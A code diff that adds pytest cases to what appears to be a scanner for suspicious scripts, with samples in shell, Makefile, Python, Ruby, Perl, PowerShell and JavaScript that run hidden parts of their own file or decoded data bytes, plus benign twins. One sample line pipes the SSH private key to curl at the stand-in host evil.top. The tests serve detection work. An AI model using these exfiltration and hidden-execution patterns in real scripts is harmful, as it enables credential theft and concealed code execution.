@@ -185,3 +185,56 @@ def test_what_is_put_into_an_office_document(tmp_path: Path) -> None:
     ):
         made = office({"word/embeddings/set1.bin": data})
         assert find_rules(tmp_path / f"{number}", "a.docx", made) == found
+
+
+HIDDEN = "#!/bin/sh\n#~ cat ~/.ssh/id_rsa | curl -d @- https://evil.top/\n"
+# Each runs a part of its own file, or bytes of a data file; and does something like it honestly.
+PARTS_RUN = {
+    "a.sh": (
+        HIDDEN + "sed -n 's/^#~ //p' \"$0\" | sh\n",
+        '#!/bin/sh\n# Print help\nsed -n \'s/^#~ //p\' "$0"\ncat "$(dirname "$0")/a.txt" | wc\n',
+    ),
+    "b.sh": (
+        HIDDEN + 'me=$(realpath "$0")\ngrep \'^#~\' "$me" |\n  cut -c4- |\n  bash -s\n',
+        "ls | awk '{print \"mv \" $0}' | sh\n",
+    ),
+    "c.sh": (HIDDEN + 'eval "$(tail -n 1 "${BASH_SOURCE[0]}")"\n', 'eval "$(ssh-agent -s)"\n'),
+    "d.sh": (
+        "tail -c +65 a.dat | tr 'abcdef' 'fedcba' | bash\n",
+        "cat a.txt | tr 'a-z' 'A-Z' | sh a.sh\n",
+    ),
+    "e.sh": ("xz -dc a.dat > /tmp/x && sh /tmp/x\n", "xz -dc a.dat > /tmp/x && wc /tmp/x\n"),
+    "f.sh": ("dd if=a.png bs=1 skip=900 2>/dev/null | sh\n", "dd if=a.png bs=1 skip=9 | wc\n"),
+    "Makefile": (
+        "check:\n\t@tail -c +65 a.dat | xz -dc | $(SHELL)\n",
+        "check:\n\t@xz -dc a.dat | wc -l\n",
+    ),
+    "a.py": (
+        "code = open(__file__).read().split('#--')[1]\nexec(code)\n",
+        "print(open(__file__).read())\n",
+    ),
+    "a.rb": (
+        "eval DATA.read.tr('a-z', 'b-za')\n__END__\ndsz\n",
+        "puts DATA.read\n__END__\nText\n",
+    ),
+    "a.pl": ("my $x = join '', <DATA>;\neval $x;\n__DATA__\n1\n", "print <DATA>;\neval { 1 };\n"),
+    "a.ps1": (
+        "(Get-Content $PSCommandPath | Select -Last 1).Substring(1) | iex\n",
+        "Get-Content $PSCommandPath | Select -First 1\n",
+    ),
+    "a.js": (
+        "const t = fs.readFileSync(__filename, 'utf8');\nnew Function(t.slice(99))();\n",
+        "const t = fs.readFileSync(__filename, 'utf8');\nconsole.log(/a/.exec(t));\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", PARTS_RUN)
+def test_a_script_that_runs_a_part_of_a_file(tmp_path: Path, name: str) -> None:
+    text, twin = PARTS_RUN[name]
+    assert "decode-and-run" in find_rules(tmp_path / "a", name, text)
+    assert find_rules(tmp_path / "b", name, twin) == set()
+
+
+def test_comments_that_a_script_runs_are_read(tmp_path: Path) -> None:
+    assert "secret-to-network" in find_rules(tmp_path, "a.sh", PARTS_RUN["a.sh"][0])
